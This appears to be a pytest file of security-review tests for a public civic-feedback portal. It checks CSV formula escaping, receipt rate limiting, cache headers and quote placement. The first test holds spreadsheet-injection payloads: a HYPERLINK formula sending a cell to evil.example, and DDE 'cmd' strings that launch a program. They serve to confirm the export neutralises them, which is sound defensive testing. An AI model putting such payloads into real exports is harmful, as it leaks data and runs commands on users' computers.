"""Attacks on the public portal from the security review: what a visitor downloads or
keeps, and how often they may guess."""

from __future__ import annotations

import csv
import io
from collections import Counter

from sqlalchemy import select

from server.extensions import db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Ver detalle")'


def _rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def test_open_data_csv_never_hands_a_spreadsheet_a_formula(app, demo):
    """A coordinator's text (a commitment, a project name) that starts like a formula is
    written so that Excel or LibreOffice shows it as text, not runs it."""
    from server.commitments.models import Commitment
    from server.plans.models import Plan, Project

    with app.app_context():
        commitment = db.session.scalars(select(Commitment).order_by(Commitment.id)).first()
        project = db.session.get(Project, commitment.project_id)
        department = db.session.get(Plan, project.plan_id).department_ubigeo
        commitment.what_es = FORMULA
        commitment.what_qu = "+cmd|' /C calc'!A0"
        project.name_es = "@SUM(1+1)*cmd|' /C calc'!A0"
        code, project_code = commitment.code, project.code
        db.session.commit()
    client = app.test_client()
    [row] = [r for r in _rows(client.get(f"/datos/{department}/compromisos.csv"))
             if r["code"] == code]
    assert row["what_es"] == "'" + FORMULA
    assert row["what_qu"] == "'+cmd|' /C calc'!A0"
    [project_row] = [r for r in _rows(client.get(f"/datos/{department}/proyectos.csv"))
                     if r["code"] == project_code]
    assert project_row["name_es"].startswith("'@")
    # the JSON keeps the words as they were typed (no spreadsheet reads it)
    data = client.get(f"/datos/{department}.json").get_json()
    assert FORMULA in [c["what_es"] for c in data["commitments"]]


def test_guessing_receipts_on_the_portal_is_rate_limited_like_the_api(app_factory):
    app = app_factory(RATELIMIT_RECEIPTS="3 per minute")
    client = app.test_client()
    codes = [client.get("/recibo?codigo=2345-6789").status_code for _ in range(4)]
    assert codes == [200, 200, 200, 429]
    refused = client.get("/recibo?codigo=2345-6789&lang=es")
    assert "Espera un momento" in refused.get_data(as_text=True)
    # the empty form itself is not counted
    assert client.get("/recibo").status_code == 200


def test_the_receipt_page_is_never_kept_by_a_browser_or_proxy(app, demo, client,
                                                              link_headers):
    """It shows the team's reply to one resident: like the receipts API, never cached (the
    next person at a shared computer must not find it)."""
    from tests.helpers import feedback_item

    stored = client.post("/api/v1/submissions", json={"submissions": [feedback_item()]},
                         headers=link_headers).get_json()
    receipt = stored["results"][0]["receipt"]
    response = client.get(f"/recibo?codigo={receipt}")
    assert response.status_code == 200 and receipt in response.get_data(as_text=True)
    assert "no-store" in response.headers.get("Cache-Control", "")


def test_a_quote_shows_only_on_the_project_it_was_counted_for(portal_app, sampled):
    """Project codes are unique within a plan only: a resident's words about Cajamarca's
    project never appear on a Moquegua project that happens to share its code (where its
    count, perhaps below k, is not even published)."""
    from server.plans.models import Plan, Project
    from server.portal.models import PublicSurvey, PublishableText
    from server.submissions.models import Submission
    from server.surveys.models import Survey

    with portal_app.app_context():
        public = set(db.session.scalars(select(PublicSurvey.survey_id)))
        db.session.add_all(PublicSurvey(survey_id=survey_id) for survey_id in db.session.scalars(
            select(Submission.survey_id).distinct()) if survey_id not in public)
        db.session.flush()
        rows = db.session.execute(
            select(Submission, Survey.plan_id).join(Survey, Survey.id == Submission.survey_id)
            .where(Submission.project_code.is_not(None), Survey.plan_id.is_not(None))).all()
        counted = Counter(s.project_code for s, _plan in rows)
        submission, plan_id = next((s, p) for s, p in rows
                                   if s.project_code == counted.most_common(1)[0][0])
        submission.answers = {**submission.answers, "comment": "Palabras de Cajamarca 5512"}
        db.session.add(PublishableText(submission_id=submission.id, question="comment"))
        home = db.session.scalar(select(Project).where(
            Project.code == submission.project_code, Project.plan_id == plan_id))
        # the busiest project of another plan takes the same code (allowed), its feedback too
        elsewhere = Counter(s.project_code for s, plan in rows if plan != plan_id)
        other = db.session.scalar(select(Project).join(Plan, Plan.id == Project.plan_id)
                                  .where(Plan.id != plan_id,
                                         Project.code == elsewhere.most_common(1)[0][0]))
        for item, plan in rows:
            if plan != plan_id and item.project_code == other.code:
                item.project_code = submission.project_code
        other.code = submission.project_code
        db.session.commit()
        home_id, other_id = home.id, other.id
    client = portal_app.test_client()
    assert "Palabras de Cajamarca 5512" in client.get(f"/proyecto/{home_id}").get_data(
        as_text=True)
    assert "Palabras de Cajamarca 5512" not in client.get(f"/proyecto/{other_id}").get_data(
        as_text=True)
